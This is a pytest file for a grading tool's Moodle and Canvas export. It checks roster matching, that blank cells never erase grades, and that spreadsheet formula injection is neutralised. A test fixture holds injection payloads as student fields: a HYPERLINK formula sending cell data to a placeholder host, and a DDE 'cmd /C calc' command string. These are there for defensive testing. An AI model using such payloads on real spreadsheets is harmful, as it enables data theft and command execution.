"""`grade export` for Moodle and Canvas: files their importers accept and apply without erasing a
grade, roster matching, and spreadsheet formula injection, through the real CLI.

The gradebooks here are written through the gradebook's own API with stored results (the export
reads stored results and never grades). `apply_moodle` and `apply_canvas` replay what each LMS's
importer does with a file, as their code does it (Moodle: grade/import/csv load_data.php and
grade_import_commit; Canvas: app/models/gradebook_importer.rb), on a dict of current grades.
"""

from __future__ import annotations

import csv
import io
import re

import pytest
from cliutil import run_grade

from grader.gradebook.store import AttemptKey, Gradebook, Student
from grader.model import CheckResult, ExerciseResult

FORMULA = ("=", "+", "-", "@", "\t", "\r")
EXERCISES = ("sigmoid", "conv")


def stored(db, students: list[Student], scores: dict[tuple[str, str], float]) -> None:
    """A gradebook holding `students` and one result per (student, exercise) in `scores`."""
    with Gradebook(db) as book:
        book.add_students(students)
        for (sid, exercise), score in scores.items():
            result = ExerciseResult(
                exercise,
                {"en": exercise},
                f"{exercise}.py",
                1,
                checks=[CheckResult("a", {"en": "a"}, 10.0, score)],
                student=sid,
            )
            book.add_attempt(result, AttemptKey("c", "s", 1))


def rows_of(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


# -- what the LMS importers do ------------------------------------------------------------------
class ImportAborted(Exception):
    pass


def apply_moodle(grades: dict, users: dict, text: str, mapfrom: str, mapping: dict) -> None:
    """Moodle's CSV grade import: the `mapfrom` column is looked up in the user field it maps to
    (`users`: user -> {field: value}), an unknown user aborts the whole import; each column in
    `mapping` (header -> grade item) sets that item: "" and "-" become no grade (null)."""
    rows = rows_of(text)
    header = [h.strip() for h in rows[0]]
    staged = []
    for line in rows[1:]:
        if len(line) <= 1:
            continue
        value = line[header.index(mapfrom)].strip()
        field = {"ID number": "idnumber", "Email address": "email"}[mapfrom]
        who = [u for u, fields in users.items() if value and fields.get(field) == value]
        if len(who) != 1:
            raise ImportAborted(f"no user with {field} {value!r}")
        for column, item in mapping.items():
            cell = line[header.index(column)].strip()
            staged.append((who[0], item, None if cell in ("", "-") else float(cell)))
    for user, item, value in staged:
        grades[user, item] = value


def apply_canvas(grades: dict, users: dict, text: str) -> None:
    """Canvas's gradebook import: a row is the student whose ID, else SIS User ID, else SIS
    Login ID, else name matches; each assignment column's cell replaces the current score
    unless it is no change (the same value, or both blank/"-"); total columns are skipped."""
    rows = rows_of(text)
    header = rows[0]
    skip = re.compile("Current|Final|Override")
    identity = {"Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Integration ID"}
    assignments = [h for h in header if h not in identity and not skip.search(h)]
    for line in rows[1:]:
        if "Points Possible" in line[0]:
            continue
        cell = dict(zip(header, line, strict=True))
        who = None
        for column, field in (
            ("ID", "id"),
            ("SIS User ID", "sis"),
            ("SIS Login ID", "login"),
            ("Student", "name"),
        ):
            hits = [
                u for u, f in users.items() if cell.get(column) and f.get(field) == cell[column]
            ]
            if len(hits) == 1:
                who = hits[0]
                break
        if who is None:
            continue  # offered as a new student: nothing is applied to anyone
        for title in assignments:
            new, current = cell[title].strip(), grades.get((who, title))
            blank = new in ("", "-")
            if blank and current is None:
                continue
            if not blank and current is not None and float(new) == current:
                continue
            grades[who, title] = None if blank else float(new)


# -- formula injection --------------------------------------------------------------------------
HOSTILE = [
    Student("=1+1", '=HYPERLINK("http://x.example/?"&A1,"a")', email="+x@example.org"),
    Student("-2+3", "@SUM(1)", section="\t=cmd|' /C calc'!A0"),
    Student("tab", "\r=2*3 \x07bell\x1b[31m", email="ok@example.org"),
    Student("full", "\uff1d1+1", extra={"idnumber": "-5"}),
]


@pytest.mark.parametrize("fmt", ["csv", "moodle", "canvas"])
def test_no_cell_of_any_export_is_a_formula_and_grades_stay_numbers(tmp_path, fmt):
    db = tmp_path / "g.sqlite"
    stored(db, HOSTILE, {(s.id, "sigmoid"): 2.5 for s in HOSTILE})
    done = run_grade("export", "--format", fmt, "--db", str(db))
    assert done.returncode == 0, done.stderr
    rows = rows_of(done.stdout)
    grade_column = rows[0].index("sigmoid")
    students = [r for r in rows[1:] if "Points Possible" not in r[0]]
    assert len(students) == len(HOSTILE)
    for row in students:
        assert row[grade_column] == "2.5"
        for cell in row:
            assert not any(ord(ch) < 0x20 or 0x7F <= ord(ch) < 0xA0 for ch in cell), row
            stripped = cell.lstrip()
            if stripped[:1] in FORMULA or stripped[:1] == "\uff1d":
                assert re.fullmatch(r"-\d+", cell), f"live formula {cell!r}"
    cells = {c for r in students for c in r}
    assert '\'=HYPERLINK("http://x.example/?"&A1,"a")' in cells
    assert "'@SUM(1)" in cells and "'=2*3 bell[31m" in cells and "'\uff1d1+1" in cells
    if fmt == "csv":
        assert "'-2+3" in cells and "'+x@example.org" in cells
    # Grades are written bare (numbers), text quoted.
    assert ",2.5" in done.stdout or "\n2.5" in done.stdout


# -- blank cells never erase a grade -------------------------------------------------------------
CLASS = [
    Student("s1", "Ada Lovelace", email="ada@example.org", extra={"idnumber": "S-1"}),
    Student("s2", "Alan Turing", email="alan@example.org", extra={"idnumber": "S-2"}),
    Student("s3", "Grace Hopper", email="grace@example.org", extra={"idnumber": "S-3"}),
]
MOODLE_USERS = {s.id: {"idnumber": s.extra["idnumber"], "email": s.email} for s in CLASS}


def test_moodle_file_without_roster_leaves_out_students_with_nothing_and_splits_on_blanks(
    tmp_path,
):
    db = tmp_path / "g.sqlite"
    stored(db, CLASS, {("s1", "sigmoid"): 7, ("s1", "conv"): 9.5, ("s2", "conv"): 4})
    out = tmp_path / "moodle.csv"
    done = run_grade("export", "--format", "moodle", "--db", str(db), "--out", str(out))
    assert done.returncode == 0, done.stderr
    assert "1 student without any grade left out" in done.stderr
    assert "one file per exercise" in done.stderr
    assert not out.exists()
    sigmoid = (tmp_path / "moodle-sigmoid.csv").read_text()
    conv = (tmp_path / "moodle-conv.csv").read_text()
    assert rows_of(sigmoid) == [
        ["ID number", "Email address", "Full name", "sigmoid"],
        ["S-1", "ada@example.org", "Ada Lovelace", "7"],
    ]
    assert rows_of(conv)[0] == ["ID number", "Email address", "Full name", "conv"]
    # Applying both files to Moodle with hand-entered grades: only nnlab's grades change.
    grades = {("s2", "Lab 1"): 8.0, ("s3", "Lab 1"): 6.0, ("s3", "Lab 2"): 5.0}
    apply_moodle(grades, MOODLE_USERS, sigmoid, "ID number", {"sigmoid": "Lab 1"})
    apply_moodle(grades, MOODLE_USERS, conv, "Email address", {"conv": "Lab 2"})
    assert grades == {
        ("s1", "Lab 1"): 7.0,
        ("s1", "Lab 2"): 9.5,
        ("s2", "Lab 1"): 8.0,  # hand-entered, no sigmoid submission: unchanged
        ("s2", "Lab 2"): 4.0,
        ("s3", "Lab 1"): 6.0,  # no submission at all: unchanged
        ("s3", "Lab 2"): 5.0,
    }
    # Standard output cannot hold several files.
    piped = run_grade("export", "--format", "moodle", "--db", str(db))
    assert piped.returncode == 2 and "give --out FILE" in piped.stderr


def test_moodle_participant_ids_are_never_written_as_id_numbers(tmp_path):
    db = tmp_path / "g.sqlite"
    zipped = Student("4711", "Grace Hopper", origin="moodle", extra={"participant_id": "4711"})
    stored(db, [zipped, CLASS[0]], {("4711", "sigmoid"): 3, ("s1", "sigmoid"): 4})
    done = run_grade("export", "--format", "moodle", "--db", str(db))
    assert done.returncode == 0, done.stderr
    assert rows_of(done.stdout) == [
        ["ID number", "Email address", "Full name", "sigmoid"],
        ["S-1", "ada@example.org", "Ada Lovelace", "4"],
    ]
    assert "left out: 4711 (Grace Hopper) has no ID number or email" in done.stderr


def test_moodle_file_has_no_blank_in_a_column_moodle_can_map_rows_by(tmp_path):
    # Moodle does not look up a row whose "Map from" cell is blank and gives its grades to the
    # user of the row above: a column some student lacks is left out of the file.
    db = tmp_path / "g.sqlite"
    no_mail = Student("s9", "No Mail", extra={"idnumber": "S-9"})
    stored(db, [CLASS[0], no_mail], {("s1", "sigmoid"): 4, ("s9", "sigmoid"): 6})
    done = run_grade("export", "--format", "moodle", "--db", str(db))
    assert done.returncode == 0, done.stderr
    assert "column Email address left out" in done.stderr
    text = done.stdout
    assert rows_of(text) == [
        ["ID number", "Full name", "sigmoid"],
        ["S-1", "Ada Lovelace", "4"],
        ["S-9", "No Mail", "6"],
    ]
    users = {"ada": {"idnumber": "S-1"}, "nomail": {"idnumber": "S-9"}}
    grades: dict = {}
    apply_moodle(grades, users, text, "ID number", {"sigmoid": "Lab 1"})
    assert grades == {("ada", "Lab 1"): 4.0, ("nomail", "Lab 1"): 6.0}


def test_canvas_file_has_no_total_by_default_and_blanks_change_nothing(tmp_path):
    db = tmp_path / "g.sqlite"
    people = [
        Student(s.id, s.name, email=s.email, extra={"canvas_user_id": str(100 + i)})
        for i, s in enumerate(CLASS)
    ]
    stored(db, people, {("s1", "sigmoid"): 7, ("s2", "sigmoid"): 3, ("s2", "conv"): 10})
    out = tmp_path / "canvas.csv"
    done = run_grade("export", "--format", "canvas", "--db", str(db), "--out", str(out))
    assert done.returncode == 0, done.stderr
    files = sorted(p.name for p in tmp_path.glob("canvas*.csv"))
    assert files == ["canvas-conv.csv", "canvas-sigmoid.csv"]
    users = {s.id: {"id": s.extra["canvas_user_id"], "name": s.name} for s in people}
    grades = {("s1", "conv"): 6.0, ("s3", "sigmoid"): 2.0}
    for name in files:
        text = (tmp_path / name).read_text()
        header = rows_of(text)[0]
        assert header[:5] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]
        assert "Total" not in header
        assert rows_of(text)[1][0] == "    Points Possible"
        apply_canvas(grades, users, text)
    assert grades == {
        ("s1", "sigmoid"): 7.0,
        ("s1", "conv"): 6.0,  # hand-entered, no conv submission: unchanged
        ("s2", "sigmoid"): 3.0,
        ("s2", "conv"): 10.0,
        ("s3", "sigmoid"): 2.0,
    }
    one = run_grade("export", "--format", "canvas", "-e", "sigmoid", "--db", str(db), "--total")
    assert rows_of(one.stdout)[0][-2:] == ["sigmoid", "Total"]


# -- rosters: the LMS's own grade export ---------------------------------------------------------
MOODLE_ROSTER = """\ufeffFirst name,Last name,ID number,Institution,Department,Email address,\
"Assignment: sigmoid (Real)","Assignment: Lab conv (Real)","Course total (Real)",\
"Last downloaded from this course"
Zoë,Ёлкина,S-10,,,zoe@uni.example,-,-,0.00,1767225600
Ada,Lovelace,S-11,,,ada@uni.example,-,-,0.00,1767225600
Hand,Entered,S-12,,,hand@uni.example,-,8.00,8.00,1767225600
"""


def test_moodle_roster_matches_by_unicode_name_and_writes_its_identity_columns(tmp_path):
    db = tmp_path / "g.sqlite"
    students = [
        Student("zoe", "ZOE  Елкина"),  # name differs in case, accents, ё/е and spaces
        Student("ada", "Lovelace, Ada", email="ADA@uni.example"),
        Student("ghost", "Nobody Here", email="ghost@elsewhere.example"),
    ]
    stored(db, students, {("zoe", "sigmoid"): 9, ("ada", "conv"): 3, ("ghost", "sigmoid"): 1})
    roster = tmp_path / "moodle-grades.csv"
    roster.write_text(MOODLE_ROSTER, encoding="utf-8")
    out = tmp_path / "import.csv"
    done = run_grade(
        "export",
        "--roster",
        str(roster),
        "--db",
        str(db),
        "--out",
        str(out),
        "--column",
        "conv=Assignment: Lab conv (Real)",
    )
    assert done.returncode == 0, done.stderr
    assert done.stderr.count("not in the roster") == 1
    assert "not in the roster, left out: ghost (Nobody Here)" in done.stderr
    rows = rows_of(out.read_text())
    assert rows[0] == [
        "First name",
        "Last name",
        "ID number",
        "Institution",
        "Department",
        "Email address",
        "Assignment: sigmoid (Real)",
        "Assignment: Lab conv (Real)",
        "Last downloaded from this course",
    ]
    assert rows[1:] == [
        ["Zoë", "Ёлкина", "S-10", "", "", "zoe@uni.example", "9", "-", "1767225600"],
        ["Ada", "Lovelace", "S-11", "", "", "ada@uni.example", "-", "3", "1767225600"],
    ]
    users = {
        "zoe": {"idnumber": "S-10"},
        "ada": {"idnumber": "S-11"},
        "hand": {"idnumber": "S-12"},
    }
    grades = {("hand", "conv"): 8.0}
    apply_moodle(
        grades,
        users,
        out.read_text(),
        "ID number",
        {"Assignment: sigmoid (Real)": "sigmoid", "Assignment: Lab conv (Real)": "conv"},
    )
    assert grades == {
        ("zoe", "sigmoid"): 9.0,
        ("zoe", "conv"): None,  # "-" over no grade: still no grade
        ("ada", "sigmoid"): None,
        ("ada", "conv"): 3.0,
        ("hand", "conv"): 8.0,  # the hand-entered grade, no submission: unchanged
    }


CANVAS_ROSTER = """Student,ID,SIS User ID,SIS Login ID,Section,sigmoid (501),Quiz 1 (502),\
Current Score,Unposted Current Score,Final Score
    Points Possible,,,,,12.00,5.00,(read only),(read only),(read only)
"Lovelace, Ada",201,,ada.l,Group A,,4.00,33.33,33.33,33.33
"Hopper, Grace",202,G-2,grace.h,Group A,7.00,,58.33,58.33,58.33
"Student, Test",299,,,Group A,,,,,
"""


def test_canvas_roster_keeps_its_identity_columns_points_and_hand_entered_grades(tmp_path):
    db = tmp_path / "g.sqlite"
    students = [
        Student("ada.l", "Ada Lovelace", extra={"canvas_user_id": "201"}),
        Student("grace", "Grace Hopper", extra={"sis_user_id": "G-2"}),
        Student("eve", "Eve Unlisted"),
    ]
    stored(db, students, {("ada.l", "sigmoid"): 10, ("eve", "sigmoid"): 2, ("eve", "conv"): 1})
    roster = tmp_path / "canvas-grades.csv"
    roster.write_text(CANVAS_ROSTER, encoding="utf-8")
    done = run_grade("export", "--roster", str(roster), "--db", str(db), "-e", "sigmoid")
    assert done.returncode == 0, done.stderr
    assert "not in the roster, left out: eve (Eve Unlisted)" in done.stderr
    rows = rows_of(done.stdout)
    assert rows == [
        ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "sigmoid (501)"],
        ["    Points Possible", "", "", "", "", "12.00"],
        ["Lovelace, Ada", "201", "", "ada.l", "Group A", "10"],
    ]
    users = {"ada": {"id": "201"}, "grace": {"id": "202", "sis": "G-2"}}
    grades = {("grace", "sigmoid (501)"): 7.0, ("ada", "Quiz 1 (502)"): 4.0}
    apply_canvas(grades, users, done.stdout)
    assert grades == {
        ("grace", "sigmoid (501)"): 7.0,  # hand-entered, no submission: unchanged
        ("ada", "Quiz 1 (502)"): 4.0,
        ("ada", "sigmoid (501)"): 10.0,
    }


def test_a_roster_of_the_other_lms_or_of_neither_is_one_clear_line(tmp_path):
    db = tmp_path / "g.sqlite"
    stored(db, CLASS, {("s1", "sigmoid"): 1})
    roster = tmp_path / "canvas.csv"
    roster.write_text(CANVAS_ROSTER, encoding="utf-8")
    wrong = run_grade("export", "--format", "moodle", "--roster", str(roster), "--db", str(db))
    assert wrong.returncode == 2
    assert wrong.stderr.strip().endswith("use --format canvas")
    other = tmp_path / "list.csv"
    other.write_text("id,name\n1,Ada\n", encoding="utf-8")
    bad = run_grade("export", "--roster", str(other), "--db", str(db))
    assert bad.returncode == 2 and len(bad.stderr.strip().splitlines()) == 1
    assert f"{other}:1:" in bad.stderr and "Traceback" not in bad.stderr
